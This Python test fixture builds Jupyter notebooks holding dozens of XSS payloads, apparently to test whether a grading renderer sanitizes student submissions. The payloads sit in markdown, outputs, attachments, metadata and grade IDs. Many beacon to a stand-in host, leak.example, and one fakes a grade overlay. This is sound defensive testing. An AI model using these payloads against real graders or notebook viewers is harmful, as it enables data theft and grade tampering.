"""A gallery of what a student can hide in a notebook for whoever looks at it.

Each sets a flag in the page, or makes a request, unless it is made harmless.
"""

import base64
from dataclasses import dataclass

import nbformat
from nbformat import NotebookNode

FLAG = "window.taken_over++"
LEAK = "https://leak.example"
_CODE = f"{FLAG};new Image().src='{LEAK}/code'"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_CODE}"><script>{_CODE}</script></svg>'
_ONE = base64.b64encode(_SVG.encode()).decode()
_PICTURE = f'x" onerror="{_CODE}'


@dataclass(frozen=True)
class Payload:
    """One way in; `shows` says whether stock nbconvert lets it through to the page."""

    name: str
    cell: NotebookNode
    shows: bool = True


def _markdown(name: str, source: str, shows: bool = True, **more: object) -> Payload:
    return Payload(name, nbformat.v4.new_markdown_cell(source, **more), shows)


def _shown(name: str, kind: str, data: object, shows: bool = True, **metadata: object) -> Payload:
    cell = nbformat.v4.new_code_cell("1")
    output = NotebookNode(
        output_type="display_data",
        data=NotebookNode({kind: data}),
        metadata=nbformat.from_dict(metadata),
    )
    cell.outputs = [output]
    return Payload(name, cell, shows)


def _marked(name: str, shows: bool = True, kind: str = "code", **metadata: object) -> Payload:
    make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
    return Payload(name, make("1", metadata=nbformat.from_dict(metadata)), shows)


def _numbered() -> Payload:
    cell = nbformat.v4.new_code_cell("1")
    cell.execution_count = f'<img src=x onerror="{_CODE}">'
    return Payload("execution-count", cell, shows=False)


def _named() -> Payload:
    cell = nbformat.v4.new_markdown_cell("a")
    cell.id = f'x"><img src=x onerror="{_CODE}">'
    return Payload("cell-id", cell, shows=False)


def _stream() -> Payload:
    cell = nbformat.v4.new_code_cell("1")
    name = f'stdout"><img src=x onerror="{_CODE}">'
    cell.outputs = [NotebookNode(output_type="stream", name=name, text="a")]
    return Payload("stream-name", cell, shows=False)


PAYLOADS = [
    _markdown("onerror", f'<img src=x onerror="{_CODE}">'),
    _markdown("onerror-unquoted", f"<img src=x onerror={FLAG}>"),
    _markdown("script", f"<script>{_CODE}</script>"),
    _markdown("script-from-elsewhere", f'<script src="{LEAK}/a.js"></script>'),
    _markdown("svg-onload", _SVG),
    _markdown("svg-in-lines", f"<svg\nonload\n=\n'{FLAG}'>", shows=False),
    _markdown("details-ontoggle", f'<details open ontoggle="{_CODE}">a</details>'),
    _markdown("autofocus", f'<input autofocus onfocus="{_CODE}">'),
    _markdown("animation", f"<style>@keyframes x{{}}</style><b style='animation-name:x' "
              f'onanimationstart="{_CODE}">a</b>'),
    _markdown("iframe-srcdoc", f"<iframe srcdoc=\"<script>parent.{FLAG}</script>\"></iframe>"),
    _markdown("iframe-javascript", f'<iframe src="javascript:parent.{FLAG}"></iframe>'),
    _markdown("object", f'<object data="data:image/svg+xml;base64,{_ONE}"></object>'),
    _markdown("embed", f'<embed src="data:image/svg+xml;base64,{_ONE}">'),
    _markdown("meta-refresh", f'<meta http-equiv="refresh" content="0;url={LEAK}/meta">'),
    _markdown("base", f'<base href="{LEAK}/">'),
    _markdown("form", f'<form action="{LEAK}"><button>Full credit</button></form>'),
    _markdown("style-import", f'<style>@import url("{LEAK}/a.css");</style>'),
    _markdown("style-cover", '<div style="position:fixed;inset:0;z-index:9999">Total: 12</div>'),
    _markdown("closing-tags", f'</div></div></body><img src=x onerror="{_CODE}">'),
    _markdown("unclosed", f'<p><img src=x onerror="{_CODE}" x="', shows=False),
    _markdown("comment", f'<!-- --!><img src=x onerror="{_CODE}">-->', shows=False),
    _markdown("cdata", f'<![CDATA[><img src=x onerror="{_CODE}">]]>', shows=False),
    _markdown("math-and-code", f"`$`$ <img src=x onerror=\"{_CODE}\"> $`$`", shows=False),
    _markdown("mutation", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
              f'&lt;img src=1 onerror={FLAG}&gt;">'),
    _markdown("noscript",
              f'<noscript><p title="</noscript><img src=x onerror={FLAG}>"></noscript>'),
    _markdown("link", f"[answer](javascript:{FLAG})"),
    _markdown("link-entities", f"[answer](java&#115;cript&colon;{FLAG})"),
    _markdown("link-newline", f"<a href=\"java\nscript:{FLAG}\">answer</a>"),
    _markdown("link-reference", f"[answer][1]\n\n[1]: javascript:{FLAG}"),
    _markdown("link-angle", f"[answer](< javascript:{FLAG}>)", shows=False),
    _markdown("link-auto", f"<javascript:{FLAG}>"),
    _markdown("link-data", f"[answer](data:text/html,<script>{FLAG}</script>)"),
    _markdown("picture-elsewhere", f"![a]({LEAK}/a.png)"),
    _markdown("picture-reference", f"![a][p]\n\n[p]: {LEAK}/a.png"),
    _markdown("picture-html", f'<img src="{LEAK}/a.png">'),
    _markdown("picture-srcset", f'<img srcset="{LEAK}/a.png 1x">'),
    _markdown("picture-svg", f"![a](data:image/svg+xml;base64,{_ONE})"),
    _markdown("video", f'<video poster="{LEAK}/a.png"><source onerror="{_CODE}"></video>'),
    _markdown("tex-href", rf"$\href{{javascript:{FLAG}}}{{x}}$", shows=False),
    _markdown("tex-style", r"$\style{position:fixed;top:0}{x}$", shows=False),
    _markdown("tex-class", r"$\class{navbar-fixed-top}{x}$ $\cssId{marks}{y}$", shows=False),
    _markdown("tex-unicode", rf"$\unicode[x;background:url({LEAK})]{{65}}$", shows=False),
    _markdown("tex-renamed", rf"$\let\a\href \a{{javascript:{FLAG}}}{{x}}$", shows=False),
    _markdown("tex-and-html", rf"$</span><img src=x onerror={FLAG}>$", shows=False),
    _markdown("attachment-svg", "![a](attachment:a.svg)",
              attachments={"a.svg": {"image/svg+xml": _ONE}}),
    _markdown("attachment-name", f"![a](attachment:{_PICTURE})", shows=False,
              attachments={_PICTURE: {"image/png": "AAAA"}}),
    _markdown("attachment-data", "![a](attachment:a.png)", shows=False,
              attachments={"a.png": {"image/png": _PICTURE}}),
    Payload("raw", nbformat.v4.new_raw_cell(f'<img src=x onerror="{_CODE}">'), shows=False),
    Payload("raw-html", nbformat.v4.new_raw_cell(
        f"<script>{_CODE}</script>", metadata={"raw_mimetype": "text/html"}), shows=False),
    _shown("output-html", "text/html", f'<img src=x onerror="{_CODE}"><script>{_CODE}</script>'),
    _shown("output-javascript", "application/javascript", _CODE),
    _shown("output-svg", "image/svg+xml", _SVG),
    _shown("output-png", "image/png", _PICTURE),
    _shown("output-markdown", "text/markdown", f'<img src=x onerror="{_CODE}">'),
    _shown("output-latex", "text/latex",
           rf"</pre><img src=x onerror={FLAG}> \href{{javascript:x}}{{}}", shows=False),
    _shown("output-width", "image/png", "AAAA", **{"image/png": {"width": _PICTURE}}),
    _shown("output-widget", "application/vnd.jupyter.widget-view+json",
           {"model_id": f"</script><script>{_CODE}</script>", "version_major": 2}, shows=False),
    _shown("output-vega", "application/vnd.vega.v5+json",
           {"signals": [{"update": FLAG}]}, shows=False),
    _marked("tags", shows=False, tags=[f'x"><img src=x onerror="{_CODE}">']),
    _marked("grade-id", shows=False, nbgrader={
        "grade_id": f'x"><img src=x onerror="{_CODE}">', "grade": True, "solution": True,
        "locked": False, "points": 1, "schema_version": 3, "task": False}),
    _numbered(),
    _named(),
    _stream(),
]  # fmt: skip


def notebook(*payloads: Payload) -> NotebookNode:
    """Return a notebook with payloads, whether or not a valid one could hold them."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.from_dict(payload.cell) for payload in payloads]
    nb.metadata = nbformat.from_dict(
        {
            "title": f"</title><script>{_CODE}</script>",
            "language_info": {"name": "python", "pygments_lexer": f'"><script>{_CODE}</script>'},
        }
    )
    return nb
